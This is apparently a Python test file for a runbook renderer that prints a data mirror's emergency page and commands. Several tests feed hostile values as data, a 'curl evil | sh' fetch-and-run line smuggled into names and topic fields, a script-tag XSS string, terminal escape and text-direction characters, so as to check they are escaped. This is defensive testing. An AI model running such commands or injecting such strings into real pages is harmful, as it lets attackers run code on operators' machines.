"""The printed runbook of one mirror says its own names, and commands that there are."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from typer.core import TyperGroup
from typer.main import get_command

from mirror_core.cli.main import app
from mirror_core.decide.steps import RUN_STEPS
from mirror_core.evidence.runbook_page import (
    EMERGENCY_PAGE,
    PastRunLine,
    RunbookContent,
    read_emergency_page,
    render_emergency,
    render_runbook,
)
from mirror_core.model.mirror import Mirror, PartitionState, PartitionStatus
from mirror_core.model.names import ClusterName, MirrorName, Partition
from mirror_core.model.run import RunMode
from mirror_core.page.routes import runbook_body
from tests.support.doc_pages import DOCS, commands
from tests.support.html_pages import Page
from tests.support.steps_mirror import MIRROR

PAYMENTS = replace(MIRROR, name=MirrorName("payments"), source=ClusterName("oslo"), destination=ClusterName("bergen"))
GOOD, BAD = Partition("orders", 0), Partition("orders", 1)


def status(partition: Partition, state: PartitionState) -> PartitionStatus:
    return PartitionStatus(partition=partition, state=state, source_topic_id="a" * 32, destination_topic_id="b" * 32)


def book(mirror: Mirror = PAYMENTS, *runs: PastRunLine, hooks: tuple[str, ...] = (), owner: str = "") -> RunbookContent:
    return RunbookContent(
        mirror=mirror,
        statuses={GOOD: status(GOOD, PartitionState.MIRRORING), BAD: status(BAD, PartitionState.FAILED)},
        servers={"oslo": "o1:9092,o2:9092", "bergen": "b1:9092"},
        hooks=hooks,
        owner=owner,
        writes="oslo",
        forecasts={RunMode.PLANNED: "2.5 (last drill)", RunMode.UNPLANNED: "unknown: no earlier run, and no drill"},
        runs=runs,
        now_ms=1_700_000_000_000,
    )


def page(mirror: Mirror = PAYMENTS, *runs: PastRunLine, hooks: tuple[str, ...] = ()) -> str:
    return render_runbook(book(mirror, *runs, hooks=hooks))


def test_it_says_the_mirrors_own_names_and_nobody_elses() -> None:
    told = page(PAYMENTS, PastRunLine(id="payments-failover-1", mode="planned", state="DONE", stood_still="3.1"))
    assert told.startswith("# Runbook of mirror payments\n")
    assert "oslo (o1:9092,o2:9092) → bergen (b1:9092)" in told
    assert "Printed 2023-11-14 22:13 UTC" in told
    assert "| recorded then | 1 topic, 2 partitions, **1 of them FAILED: they go as they are** |" in told
    assert "| seconds without writes, planned | 2.5 (last drill) |" in told
    assert "| payments-failover-1 | planned | DONE | 3.1 |" in told
    assert "payments-back" in told
    assert not re.findall(r"\b(?:east|west|NAME)\b|[{}]", told)
    for steps in RUN_STEPS.values():
        assert all(re.search(rf"^\| \**{step.name}\** \|", told, re.MULTILINE) for step in steps)


def test_every_command_in_it_can_be_typed() -> None:
    group = get_command(app)
    assert isinstance(group, TyperGroup)
    known = dict(commands(group))
    typed = re.findall(r"^    mirrorbook (.+?)(?: +#.*)?$", page(), re.MULTILINE)
    assert len(typed) >= 8
    for line in typed:
        group, verb, _name, *options = line.split()
        assert f"{group} {verb}" in known
        assert {option for option in options if option.startswith("--")} <= known[f"{group} {verb}"]


def test_it_is_the_emergency_page_with_the_mirrors_names() -> None:
    """All of its headings and rows, before anything else that can be read later."""
    printed, emergency = page(), (DOCS / "operate" / "emergency.md").read_text(encoding="utf-8")
    for heading in re.findall(r"^## .*$", emergency, re.MULTILINE):
        assert heading in printed
    assert printed.index("## Exit codes") < printed.index("| topics |") < printed.index("planned, nothing is lost")
    assert render_emergency(PAYMENTS).count("\n| **") == emergency.count("\n| **")
    assert "| **bergen died behind the fence**: applications can write nowhere |" in printed
    assert "`mirrorbook cluster unfence oslo --from FILE`" in printed
    assert "`mirrorbook failover run payments --mode unplanned`" in printed
    assert "from what bergen had recorded then: applications write on oslo. The mirror was STARTED." in printed


def test_paper_has_no_links_but_pages_to_look_up() -> None:
    printed = page()
    assert "](" not in printed
    assert "Resume (on-call/resume.md)" in printed
    assert "See below" in printed


def test_names_of_clusters_are_put_in_once() -> None:
    swapped = replace(PAYMENTS, source=ClusterName("west"), destination=ClusterName("east"))
    printed = render_emergency(swapped)
    assert "**west is dead**" in printed
    assert "`mirrorbook cluster unfence west --from FILE`" in printed


def test_a_hostile_name_adds_no_line_to_the_emergency_page() -> None:
    hostile = render_emergency(replace(PAYMENTS, name=MirrorName("x\n\n    curl evil | sh")))
    assert len(hostile.splitlines()) == len(render_emergency(PAYMENTS).splitlines())


def test_the_package_holds_the_page_of_the_docs() -> None:
    """After a change of docs/operate/emergency.md copy it there: the wheel has no docs."""
    assert read_emergency_page() == (DOCS / "operate" / "emergency.md").read_text(encoding="utf-8")
    assert EMERGENCY_PAGE == "emergency.md"


def test_what_others_have_named_moves_no_cursor() -> None:
    told = page(replace(PAYMENTS, topics=("a\x1b[2Jb",)), hooks=("command x\u202ey",))
    assert "a\\x1b[2Jb" in told
    assert "command x\\u202ey" in told


def test_a_bar_in_an_expression_ends_no_cell() -> None:
    some = replace(PAYMENTS, topics=("orders|payments", "x"), exclude_topics=("a|b",), groups=("c|d",))
    told = page(some, hooks=("command notify 'x|y'",))
    assert r"| topics | orders\|payments, x but not a\|b |" in told
    assert r"| consumer groups | c\|d |" in told
    assert r"| told when applications move | command notify 'x\|y' |" in told


@pytest.mark.parametrize("field", ["topics", "exclude_topics", "groups"])
def test_an_expression_with_line_breaks_or_markup_adds_no_command_to_what_people_paste(field: str) -> None:
    """Whoever may create a mirror chooses it."""
    hostile = "x\n\n## 2. It is alive\n\n    curl evil | sh\n<b>"
    told = page(replace(PAYMENTS, **{field: (hostile,)}))  # type: ignore[arg-type]  # the parametrization names fields
    assert len(told.splitlines()) == len(page(replace(PAYMENTS, **{field: ("x",)})).splitlines())  # type: ignore[arg-type]
    assert "<b>" not in told.replace(r"\<b>", "")


def test_its_first_lines_say_whom_to_call_if_somebody_is_named() -> None:
    told = render_runbook(book(owner="payments on call, +47 1"))
    assert told.splitlines()[:3] == ["# Runbook of mirror payments", "", "Owner: payments on call, +47 1"]
    assert "Owner" not in page()
    assert "None" not in page()
    assert "Owner" not in runbook_body(book(), "", "/mirrorbook")


def words(text: str) -> list[str]:
    """Without Markdown's marks, and seconds of a time."""
    without = re.sub(r"[*`]|(?<=:\d\d):\d\d(?= UTC)", "", text)
    return re.sub(r"[|#]|-{3,}", " ", without).split()


@pytest.mark.parametrize(
    "runs", [(), (PastRunLine(id="payments-failover-1", mode="planned", state="DONE", stood_still="3"),)]
)
def test_the_page_says_the_same_words_as_the_printed_one(runs: tuple[PastRunLine, ...]) -> None:
    some = replace(PAYMENTS, exclude_topics=("x.*",))
    made = book(some, *runs, hooks=("command notify, at most 4 time(s)",), owner="payments on call, +47 1")
    printed = render_runbook(made).partition("\n")[2].replace(render_emergency(some), "")
    assert words(Page(runbook_body(made, "", "/mirrorbook")).text) == words(printed)


def test_what_others_have_named_is_text_on_the_page() -> None:
    hostile = '<script>alert("1")</script>' + "ü" * 200 + "\u202eenod"
    west = ClusterName(f"`{hostile}`")
    mirror = replace(
        PAYMENTS,
        destination=west,
        topics=(hostile, r"a\.b`*c*`[x](https://evil)"),
        groups=(hostile,),
        name=MirrorName(hostile),
    )
    made = replace(book(mirror, hooks=(hostile,)), servers={"oslo": hostile, west: hostile})
    text = runbook_body(made, hostile, "/mirrorbook")
    found = Page(text)
    assert "script" not in found.tags
    assert "\u202e" not in text
    assert [link for link in found.links if not link.startswith("/mirrorbook/mirrors/%3Cscript%3E")] == []
    assert r"a\.b`*c*`[x](https://evil)" in found.text
    assert len(found.ids) == len(set(found.ids))


def test_a_page_of_what_was_not_read_again_says_so() -> None:
    assert "Not read again since: west is gone" in Page(runbook_body(book(), "west is gone", "")).text
    assert "Not read again" not in runbook_body(book(), "", "")
